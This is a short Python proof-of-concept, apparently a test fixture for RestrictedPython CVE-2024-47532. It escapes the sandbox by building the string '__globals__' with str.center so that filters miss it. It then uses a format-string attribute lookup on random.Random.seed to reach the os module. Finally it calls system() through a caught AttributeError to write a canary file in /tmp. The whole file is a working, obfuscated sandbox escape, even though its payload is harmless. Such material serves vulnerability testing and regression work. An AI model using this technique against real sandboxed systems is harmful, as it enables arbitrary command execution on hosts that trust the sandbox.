# source: RestrictedPython CVE-2024-47532
# effect: process

import random

hidden = "globals".center(11, "_")
try:
    ("{0." + hidden + "[_os].missing}").format(random.Random.seed)
except AttributeError as error:
    error.obj.system("echo attribute_errors/obj_of_computed_template > /tmp/canary/process")
